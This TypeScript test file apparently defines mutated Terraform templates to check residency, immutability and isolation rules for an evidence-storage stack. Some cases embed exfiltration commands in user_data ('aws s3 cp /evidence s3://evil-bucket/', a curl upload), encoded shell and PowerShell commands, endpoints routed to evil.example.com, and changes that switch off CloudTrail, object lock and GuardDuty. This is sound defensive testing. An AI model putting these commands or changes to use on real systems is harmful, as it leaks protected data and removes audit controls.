import { add, set, sections, terraform, FOREIGN, STATE, VAULT } from "./mutate";
import type { Block, Mutation } from "./mutate";

/** What a rule cannot follow: reported as unknown. */
function unfollowed(mutation: Mutation): Mutation {
  return { ...mutation, outcome: "unknown" };
}

function section(rule: string, what: string, values: Block): Mutation {
  return {
    rule,
    stack: VAULT,
    what,
    change: (template) => {
      Object.assign(sections(template), values);
    },
  };
}

function dynamic(address: string, block: string): Mutation {
  const made = { for_each: "${var.them}", content: { destination: { bucket: "${each.value}" } } };
  return set("residency/expressions", address, "dynamic", { [block]: made });
}

const TOPIC = "aws_sns_topic.alerts_topic";
const TRAIL = "aws_cloudtrail.trail_trail";
const TEMPLATE = "aws_launch_template.workstation_template";
const RUNTIME_MONITORING = "aws_guardduty_detector_feature.detection_runtime-monitoring";
const junk = Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(40, 1)]).toString("base64");

const expressions: readonly Mutation[] = [
  ...[
    "${local.r}",
    "${var.where}",
    '${join("-", ["us", "east", "1"])}',
    "${data.external.x.result.region}",
    "${aws_sns_topic.of-another-stack.region}",
    "${each.value}",
    '%{ if var.away }us%{ else }eu%{ endif }-east-1"',
  ].map((region) => set("residency/expressions", TOPIC, "region", region)),
  ...['${filebase64("start.sh")}', '${base64gzip(file("start.sh"))}', junk].map((data) =>
    set("residency/expressions", TEMPLATE, "user_data", data),
  ),
  ...["${var.on ? 1 : 0}", "${length(var.names)}"].map((count) => set("residency/expressions", TRAIL, "count", count)),
  set("residency/expressions", "aws_s3_bucket_policy.evidence_incoming_policy", "for_each", "${toset(var.names)}"),
  dynamic("aws_s3_bucket_replication_configuration.locked-copies_records", "rule"),
  dynamic("aws_instance.workstation_machine", "root_block_device"),
  add("residency/expressions", "aws_backup_plan", {
    name: "x",
    rule: [{ rule_name: "x", dynamic: { copy_action: { for_each: "${var.vaults}", content: {} } } }],
  }),
  section("residency/expressions", "a local that calls a function", { locals: { r: '${trimspace("us-east-1 ")}' } }),
];

const knownTypes: readonly Mutation[] = [
  ...[
    "google_storage_bucket",
    "awscc_ec2_internet_gateway",
    "aws_cloudformation_stack",
    "aws_lambda_function",
    "aws_lambda_function_url",
    "aws_kinesis_firehose_delivery_stream",
    "aws_sagemaker_notebook_instance",
    "aws_ec2_traffic_mirror_session",
    "aws_default_vpc",
    "aws_cloudtrail_event_data_store",
    "aws_config_configuration_aggregator",
    "aws_imagebuilder_image",
    "aws_kms_key_policy",
    "terraform_data",
  ].map((type) => add("residency/known-types", type, { name: "x" })),
  ...["external", "http"].map((type) =>
    section("residency/known-types", `+ data.${type}`, { data: { [type]: { x: {} } } }),
  ),
  section("residency/known-types", "another provider", { provider: { google: [{ project: "x" }] } }),
  section("residency/known-types", "a removal", { removed: [{ from: "aws_kms_key.keys_evidence_key" }] }),
  section("residency/known-types", "a value that is read again each time", { ephemeral: { http: { x: {} } } }),
];

/** Known, but not of what this stack may hold: what builds images, a way in that the map has not chosen, and a machine next to the state. */
const ofOtherStacks: readonly Mutation[] = [
  add("residency/known-types", "aws_imagebuilder_distribution_configuration", { name: "x" }),
  add("residency/known-types", "aws_ec2_instance_connect_endpoint", { subnet_id: "subnet-1" }),
  add("residency/known-types", "aws_instance", { ami: "ami-1" }, STATE),
  add("residency/known-types", "aws_iam_role", { name: "x" }, STATE),
];

const judged: readonly Mutation[] = [
  section("residency/regions", "a local elsewhere", { locals: { r: FOREIGN } }),
  section("residency/regions", "a variable's default elsewhere", { variable: { r: { default: FOREIGN } } }),
  section("residency/regions", "an output elsewhere", { output: { r: { value: FOREIGN } } }),
  set("residency/regions", "aws_subnet.network_endpoint-1", "availability_zone_id", "use1-az1"),
  ...["R=us-east-1 x", `echo ${Buffer.from(`aws s3 ls --region ${FOREIGN}`).toString("base64")} | base64 -d | sh`].map(
    (script) => set("residency/regions", TEMPLATE, "user_data", Buffer.from(script).toString("base64")),
  ),
  set(
    "residency/regions",
    TEMPLATE,
    "user_data",
    Buffer.from(`powershell -e ${Buffer.from(`$r = "${FOREIGN}"`, "utf16le").toString("base64")}`).toString("base64"),
  ),
  ...["aws s3 cp /evidence s3://evil-bucket/", "curl -T /evidence https://evil-bucket.s3.amazonaws.com/x"].map(
    (script) => set("residency/buckets", TEMPLATE, "user_data", Buffer.from(script).toString("base64")),
  ),
];

const made: readonly Mutation[] = [
  set("residency/provisioners", "aws_instance.workstation_machine", "provisioner", [
    { "local-exec": { command: "x" } },
  ]),
  set("residency/provisioners", TRAIL, "provisioner", { "remote-exec": { inline: ["x"] } }),
  set("residency/provisioners", TOPIC, "connection", { host: "x" }),
  ...["extra.tf", "x_override.tf.json", "terraform.tfvars", "a.auto.tfvars.json", "extra.tofu"].map(
    (name): Mutation => ({
      rule: "residency/files",
      stack: VAULT,
      what: `+ ${name}`,
      otherFiles: [name],
      change: () => undefined,
    }),
  ),
  ...["all", ["policy"], ["tags", "policy"]].map((value) =>
    set("immutability/ignored-changes", "aws_s3_bucket_policy.evidence_incoming_policy", "lifecycle", {
      prevent_destroy: true,
      ignore_changes: value,
    }),
  ),
  set("immutability/ignored-changes", "aws_instance.workstation_machine", "lifecycle", {
    ignore_changes: ["vpc_security_group_ids"],
  }),
  ...[
    [RUNTIME_MONITORING, ["additional_configuration", "status"]],
    ["aws_guardduty_detector_feature.detection_s3-data-events", ["additional_configuration"]],
    ["aws_guardduty_detector.detection_detector", ["enable"]],
    ["aws_config_configuration_recorder.config_recorder", ["recording_group"]],
    ["aws_kms_key.keys_evidence_key", ["policy"]],
  ].map(([address, names]) =>
    set("immutability/ignored-changes", String(address), "lifecycle", { prevent_destroy: true, ignore_changes: names }),
  ),
  set("immutability/ignored-changes", RUNTIME_MONITORING, "status", "ENABLED"),
  set("immutability/ignored-changes", TRAIL, "lifecycle", { prevent_destroy: true, enabled: false }),
  set("immutability/trail", TRAIL, "count", 0),
  set("immutability/object-lock", "aws_s3_bucket_object_lock_configuration.evidence_incoming_lock", "count", "0"),
  set("immutability/bucket-parts", "aws_s3_bucket_policy.evidence_incoming_policy", "for_each", {}),
];

const bound: readonly Mutation[] = [
  ...[
    { endpoints: [{ s3: "https://s3.evil.example.com" }] },
    { http_proxy: "http://evil.example.com:3128" },
    { assume_role: [{ role_arn: "arn:aws:iam::310000000001:role/x" }] },
    { assume_role: [] },
  ].map((values): Mutation => ({
    rule: "residency/providers",
    stack: VAULT,
    what: `provider with ${JSON.stringify(values)}`,
    change: (template) => {
      const [own] = (sections(template)["provider"] as Record<string, Block[]>)["aws"] ?? [];
      Object.assign(own ?? {}, values);
    },
  })),
  {
    rule: "residency/providers",
    stack: VAULT,
    what: "a provider of another publisher",
    change: (template) => {
      Object.assign(terraform(template), { required_providers: { aws: { source: "evil.example/evil/aws" } } });
    },
  },
  ...[
    { use_lockfile: false },
    { key: "eu-eu-west-1/terraform.tfstate" },
    { endpoints: { s3: "https://s3.evil.example.com" } },
    { assume_role: { role_arn: "arn:aws:iam::220000000001:role/another" } },
    { profile: "another" },
  ].map((values): Mutation => ({
    rule: "residency/state-location",
    stack: VAULT,
    what: `backend with ${JSON.stringify(values)}`,
    change: (template) => {
      const { s3 } = terraform(template)["backend"] as Record<string, Block>;
      Object.assign(s3 ?? {}, values);
    },
  })),
];

const masked: readonly Mutation[] = [
  add("isolation/security-groups", "aws_security_group", {
    ingress: [{ cidr_blocks: ["0.0.0.0/0"], security_groups: ["${aws_security_group.x.id}"] }],
  }),
  add("isolation/routes", "aws_route_table", {
    route: [{ cidr_block: "0.0.0.0/0", gateway_id: "${data.aws_internet_gateway.x.id}" }],
  }),
  ...[
    { egress: "true", cidr_block: "0.0.0.0/0" },
    { egress: true, cidr_block: "banana" },
  ].map((values) =>
    add("isolation/network-acls", "aws_network_acl_rule", {
      protocol: "tcp",
      from_port: 1024,
      to_port: 65535,
      rule_action: "allow",
      ...values,
    }),
  ),
];

/** Changes that hide something from the rules, or bring what they do not know. */
export const judgeable: readonly Mutation[] = [
  ...[...expressions, ...knownTypes].map(unfollowed),
  ...ofOtherStacks,
  ...judged,
  ...made,
  ...bound,
  ...masked,
];
